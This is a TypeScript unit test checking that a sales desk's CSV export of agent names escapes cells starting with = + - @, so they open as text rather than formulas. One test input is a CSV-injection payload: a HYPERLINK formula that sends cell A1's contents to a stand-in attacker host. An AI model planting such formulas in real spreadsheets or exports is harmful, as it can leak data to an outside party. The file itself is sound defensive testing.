// The numbers' CSV files go through the desk's one writer: a cell someone typed (an agent's name) never
// opens as a live formula in the manager's spreadsheet.
import { describe, expect, it } from 'vitest';
import { textsFor } from '@zdravo/contract';
import type { NumbersReport } from '@zdravo/contract/desk';
import { parseCsv } from '@zdravo/contract/desk/csv';
import { deskNumbersMessages } from '@zdravo/contract/messages/desk-numbers';
import { quizGoalMessages } from '@zdravo/contract/messages/quiz';
import { deskReturnReasonLabels } from '@zdravo/contract/messages/desk';
import { numberFormats } from './format.ts';
import { numbersTables, tableCsv } from './tables.ts';

const report = (names: string[]): NumbersReport => ({
  From: '2026-11-01',
  To: '2026-11-14',
  Grain: 'day',
  Countries: ['HR'],
  Periods: [],
  Funnel: [],
  Promise: [],
  Agents: names.map((Name, i) => ({
    StaffID: i + 1,
    Name,
    Calls: 3,
    OrdersCalled: 2,
    Confirmations: 1,
    AddedMinor: { EUR: 1250 },
    RemovedMinor: { EUR: 300 },
  })),
  Money: [],
  Quiz: [],
  Returns: [],
  ShippedByCountry: {},
  ProductReturns: [],
  AsOf: '2026-11-14T12:00:00Z',
});

describe('the numbers\' "Agenti" CSV', () => {
  it('writes a name that starts with = + - @ as text, never as a formula', () => {
    const t = textsFor(deskNumbersMessages, 'HR');
    const names = ['=HYPERLINK("https://evil.example/?x="&A1;"Klikni")', '+385 1 234', '-2+3', '@SUM(A1)', 'Ana Kovač'];
    const tables = numbersTables(
      report(names),
      t,
      numberFormats('HR', t.none),
      textsFor(quizGoalMessages, 'HR'),
      textsFor(deskReturnReasonLabels, 'HR'),
    );
    const rows = parseCsv(tableCsv(tables.agents)).slice(1);
    expect(rows.map((r) => r.cells[0])).toEqual([
      '\'=HYPERLINK("https://evil.example/?x="&A1;"Klikni")',
      "'+385 1 234",
      "'-2+3",
      "'@SUM(A1)",
      'Ana Kovač',
    ]);
    // The figures beside the name stay as the screen shows them.
    expect(rows[4]!.cells.slice(1, 4)).toEqual(['3', '2', '1']);
  });
});
